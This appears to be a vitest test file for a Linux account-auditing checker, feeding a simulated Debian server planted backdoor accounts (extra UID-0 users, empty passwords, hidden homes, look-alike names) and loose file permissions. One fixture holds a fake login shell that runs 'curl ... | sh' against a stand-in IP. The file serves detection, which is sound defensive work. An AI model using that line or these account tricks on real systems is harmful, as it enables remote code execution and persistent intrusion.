import { describe, expect, test } from 'vitest';
import { accountFiles } from '../../source/checks/account-files.ts';
import { accounts } from '../../source/checks/accounts.ts';
import { cleanMachines, debianServer } from '../support/distributions.ts';
import { memoryHost, type Machine, type Written } from '../support/memory-host.ts';
import { run, told } from '../support/sweep-host.ts';

/** The text of a file of the Debian server, however it was written down. */
function text(path: string): string {
	const written = debianServer[path];
	const content = typeof written === 'object' && !(written instanceof Uint8Array) ? written.content : written;
	return typeof content === 'string' ? content : '';
}
/** The Debian server with lines added to its files. */
function planted(lines: { readonly passwd?: string; readonly shadow?: string; readonly group?: string; readonly gshadow?: string }, machine: Machine = {}): Machine {
	const add = (path: string, more = '') => ({ ...(debianServer[path] as Written), content: `${text(path)}${more}` });
	return {
		...debianServer,
		'/etc/passwd': add('/etc/passwd', lines.passwd),
		'/etc/shadow': add('/etc/shadow', lines.shadow),
		'/etc/group': add('/etc/group', lines.group),
		'/etc/gshadow': add('/etc/gshadow', lines.gshadow),
		...machine,
	};
}
const without = (line: string, instead: string): Machine => ({ ...debianServer, '/etc/passwd': text('/etc/passwd').replace(line, instead) });
const shadowWith = (name: string, password: string): Machine => ({
	...debianServer,
	'/etc/shadow': { ...(debianServer['/etc/shadow'] as Written), content: text('/etc/shadow').replace(new RegExp(`^${name}:[^:]*:`, 'm'), `${name}:${password}:`) },
});
const alarms = (machine: Machine) => {
	const host = memoryHost(machine);
	return told([...run(accounts, host).findings, ...run(accountFiles, host).findings]).filter(line => !line.startsWith('info'));
};

describe('clean systems', () => {
	test.each(cleanMachines)('%s has nothing of medium or above', (_name, machine) => {
		expect(alarms(machine).filter(line => !line.startsWith('low'))).toEqual([]);
	});

	test('low is what an administrator did', () => {
		expect(alarms(debianServer)).toEqual(['low backupper']);
	});

	test('powers are listed for information', () => {
		const { findings, coverage } = run(accounts, memoryHost(debianServer));
		expect(findings.filter(({ severity }) => severity === 'info').map(({ summary }) => summary)).toEqual(['the group sudo gives powers of root to ann and bob', 'the group docker gives powers of root to ann and deploy']);
		expect(coverage.counts.accounts).toBe(28);
	});

	test('old releases gave their system accounts a shell', () => {
		const wheezy = text('/etc/passwd').replaceAll('/usr/sbin/nologin', '/bin/sh');
		expect(alarms({ ...debianServer, '/etc/passwd': wheezy })).toEqual(['low backupper']);
	});
});

describe('signs in accounts', () => {
	test.each<[string, Machine, readonly string[]]>([
		['a number beyond 32 bits', planted({ passwd: 'svcd:x:4294967296:100::/var/lib/svcd:/bin/bash\n' }), ['medium svcd']],
		['a person who reads all passwords', planted({ passwd: 'eve:x:1050:1050::/home/eve:/bin/bash\n', shadow: 'eve:!:20000::::::\n', group: 'eve:x:1050:\nkmem:x:15:eve\n' }), ['medium eve']],
		['a name that is the number of another', planted({ passwd: '1000:x:1051:100::/home/n:/bin/bash\n', shadow: '1000:!:20000::::::\n' }), ['medium 1000']],
		['a second root', planted({ passwd: 'sysd:x:0:0::/home/sysd:/bin/bash\n', shadow: 'sysd:$6$a$b:20000::::::\n' }), ['critical sysd']],
		['toor is no friend on Linux', planted({ passwd: 'toor:x:0:0::/root:/bin/bash\n', shadow: 'toor:*:20000::::::\n' }), ['critical toor']],
		['the group of root', planted({ passwd: 'eve:x:1010:0::/home/eve:/bin/bash\n', shadow: 'eve:!:20000::::::\n' }), ['medium eve']],
		['no password in shadow', shadowWith('bob', ''), ['high bob']],
		['no password for root', shadowWith('root', ''), ['critical root']],
		['no password in passwd', planted({ passwd: 'eve::1010:1000::/home/eve:/bin/sh\n' }), ['high eve']],
		['a hash in passwd', planted({ passwd: 'eve:$1$xyz$7rdBvZnVN9Qy1ZmxDqXr1.:1010:1000::/home/eve:/bin/sh\n' }), ['high eve']],
		['a system account with a shell', without('games:/usr/games:/usr/sbin/nologin', 'games:/usr/games:/bin/bash'), ['high games']],
		['no shell is /bin/sh', without('news:/var/spool/news:/usr/sbin/nologin', 'news:/var/spool/news:'), ['high news']],
		['sync with a shell', without('sync:/bin:/bin/sync', 'sync:/bin:/bin/bash'), ['high sync']],
		['a password for www-data', shadowWith('www-data', '$6$a$b'), ['high www-data']],
		['an added system account that logs in', planted({ passwd: 'dbusd:x:997:65534::/var/lib/dbusd:/bin/bash\n', shadow: 'dbusd:$6$a$b:20000::::::\n' }), ['medium dbusd']],
		['a shell in a temporary place', planted({ passwd: 'eve:x:1010:1000::/home/eve:/tmp/.sh\n', shadow: 'eve:!:20000::::::\n' }, { '/tmp/.sh': { mode: 0o755 } }), ['high eve']],
		['nologin that is a shell', { ...debianServer, '/usr/sbin/nologin': { link: '/usr/bin/bash' } }, ['critical /usr/sbin/nologin']],
		['a hidden home', planted({ passwd: 'eve:x:1010:1000::/home/.eve:/bin/bash\n', shadow: 'eve:!:20000::::::\n' }), ['high eve']],
		['a home in a temporary place', planted({ passwd: 'eve:x:1010:1000::/var/tmp/eve:/bin/bash\n', shadow: 'eve:!:20000::::::\n' }), ['high eve']],
		['a home anyone may write', { ...debianServer, '/home/bob/': { uid: 1001, mode: 0o777 } }, ['medium bob']],
		['root`s home is another`s', { ...debianServer, '/root/': { uid: 1001 } }, ['medium root']],
		['a name with a blank', planted({ passwd: 'root :x:1010:1000::/home/e:/bin/bash\n', shadow: 'root :!:20000::::::\n' }), ['high root ']],
		['a name that does not show', planted({ passwd: 'bob\u200b:x:1010:1000::/home/e:/bin/bash\n', shadow: 'bob\u200b:!:20000::::::\n' }), ['high bob\\u{200b}']],
		['a name like root', planted({ passwd: 'r00t:x:1010:1000::/home/e:/bin/bash\n', shadow: 'r00t:!:20000::::::\n' }), ['medium r00t']],
		['a person with the name of a service', planted({ passwd: 'systemd-udevd:x:1010:1000::/home/e:/bin/bash\n', shadow: 'systemd-udevd:!:20000::::::\n' }), ['medium systemd-udevd']],
		['a service in sudo', { ...debianServer, '/etc/group': text('/etc/group').replace('sudo:x:27:ann,bob', 'sudo:x:27:ann,www-data') }, ['high www-data', 'low /etc/gshadow']],
		['a password kept by DES', shadowWith('bob', 'ab01FAX.bQRSU'), ['medium bob']],
		['a person at home everywhere', planted({ passwd: 'eve:x:1010:1000::/:/bin/bash\n', shadow: 'eve:!:20000::::::\n' }), ['medium eve']],
		['a shell that is a script of nobody knows whom', planted({ passwd: 'eve:x:1010:1000::/home/eve:/usr/local/bin/rbash2\n', shadow: 'eve:!:20000::::::\n' }, { '/usr/local/bin/rbash2': { content: '#!/bin/sh\n(curl -s 203.0.113.9/k|sh) &\nexec /bin/bash "$@"\n', mode: 0o755 } }), ['high eve']],
		['a line without a name', planted({ passwd: ':x:1010:1000::/home/e:/bin/bash\n' }), ['high ', 'low /etc/shadow']],
	])('%s', (_name, machine, expected) => {
		expect(alarms(machine).filter(line => line !== 'low backupper').slice(0, expected.length)).toEqual(expected);
	});

	test('what is found names the account with its reasons', () => {
		const { findings } = run(accounts, memoryHost(planted({ passwd: 'sysd::0:0::/dev/shm/.s:/bin/bash\n' }, { '/dev/shm/.s/': { mode: 0o777 } })));
		expect(findings.find(({ subject }) => subject.kind === 'account' && subject.name === 'sysd')).toMatchObject({
			severity: 'critical',
			subject: { kind: 'account', name: 'sysd' },
			summary:
				'account sysd has UID 0: it is root under another name, has an empty password: it may log in without one, has a hidden home (/dev/shm/.s) and has a home that anyone may write (/dev/shm/.s)',
			facts: { uid: 0, home: '/dev/shm/.s', shell: '/bin/bash', password: 'empty', line: 29 },
		});
	});

	test('a password set in the time in question', () => {
		const since = 19_690 * 86_400_000;
		const { findings } = run(accounts, memoryHost(debianServer), { since, until: since + 20 * 86_400_000 });
		expect(findings.find(({ summary }) => summary.includes('had its password set on 2023-12-09'))).toBeDefined();
	});

	test('no passwd, unreadable shadow', () => {
		expect(run(accounts, memoryHost({})).couldNotLook).toBe('there is no /etc/passwd below this root');
		const { coverage, findings } = run(accounts, memoryHost({ ...debianServer, '/etc/shadow': { unreadable: true } }));
		expect(coverage.skipped).toMatchObject([{ reason: 'unreadable', examples: ['/etc/shadow'] }]);
		expect(findings.every(({ severity }) => severity === 'info' || severity === 'low')).toBe(true);
		expect(run(accounts, memoryHost({ ...debianServer, '/etc/passwd': { kind: 'fifo' } })).couldNotLook).toBe('/etc/passwd could not be read');
	});
});

describe('signs in the files', () => {
	test.each<[string, Machine, readonly string[]]>([
		['written by anyone', { ...debianServer, '/etc/passwd': { content: text('/etc/passwd'), mode: 0o666 } }, ['critical /etc/passwd']],
		['shadow read by anyone', { ...debianServer, '/etc/shadow': { ...(debianServer['/etc/shadow'] as Written), mode: 0o644 } }, ['high /etc/shadow']],
		['passwd of another`s', { ...debianServer, '/etc/passwd': { content: text('/etc/passwd'), uid: 1001 } }, ['high /etc/passwd']],
		['a copy of shadow read by anyone', { ...debianServer, '/etc/shadow.bak': 'root:$6$a$b:1::::::\n', '/etc/shadow-': { content: 'x', mode: 0o640 } }, ['medium /etc/shadow.bak']],
		['a name twice', planted({ passwd: 'bob:x:1001:1001::/home/bob:/bin/sh\n' }), ['medium bob']],
		['a number twice', planted({ passwd: 'eve:x:1001:1001::/home/eve:/bin/sh\n', shadow: 'eve:!:2::::::\n' }), ['medium eve']],
		['an account that went', planted({ shadow: 'gone:$6$a$b:20000::::::\n' }), ['low gone']],
		['an account without shadow', planted({ passwd: 'eve:x:1010:1000::/home/eve:/bin/sh\n' }), ['low /etc/shadow']],
		['a group nobody knows', planted({ passwd: 'eve:x:1010:4711::/home/eve:/bin/sh\n', shadow: 'eve:!:2::::::\n' }), ['low eve']],
		['all of NIS', planted({ passwd: '+::::::\n' }), ['high /etc/passwd']],
		['NIS as root', planted({ passwd: '+eve::0:0:::\n' }), ['critical /etc/passwd']],
		['a group with a password', planted({ gshadow: 'ops:$6$a$b::\n' }), ['medium /etc/gshadow']],
		['a second group of root', planted({ group: 'ops:x:0:bob\n' }), ['high /etc/group']],
		['a broken line', planted({ passwd: 'nonsense\n' }), ['low /etc/passwd']],
	])('%s', (_name, machine, expected) => {
		expect(told(run(accountFiles, memoryHost(machine)).findings)).toEqual(expected);
	});
});
